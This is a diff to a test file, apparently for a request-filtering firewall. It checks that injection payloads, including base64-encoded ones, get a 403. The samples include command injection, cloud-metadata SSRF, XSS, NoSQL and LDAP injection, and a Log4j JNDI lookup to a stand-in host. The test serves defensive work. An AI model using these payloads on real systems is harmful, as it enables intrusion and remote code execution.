@@ -19,6 +19,10 @@ const SAMPLES = {
   command_injection: '127.0.0.1; whoami',
   ssrf_target: 'http://2852039166/latest/meta-data',
   cross_site_scripting: '"><svg onload=alert(1)>',
+  nosql_injection: "', $where: 'sleep(900)",
+  ldap_injection: '*)(uid=*))(|(uid=*',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a look-up of Log4j
+  template_injection: '${jndi:ldap://a.example/x}',
 } as const
 const samples = Object.entries(SAMPLES)
 
@@ -35,6 +39,9 @@ describe('an attack in a text is 403 and never reaches the handler, if signature
       await send('', JSON.stringify({ a: [{ b: text }] }), JSON_TYPE),
       await send('', JSON.stringify({ [text]: 1 }), JSON_TYPE),
       await send('', text, 'text/plain'),
+      await send('', JSON.stringify({ a: Buffer.from(text).toString('base64') }), JSON_TYPE),
+      await send(`?q=${Buffer.from(text).toString('base64url')}`),
+      await send(`/${Buffer.from(text).toString('base64url')}`),
     ]
     for (const { status, text: body } of answers) {
       expect(status).toBe(403)
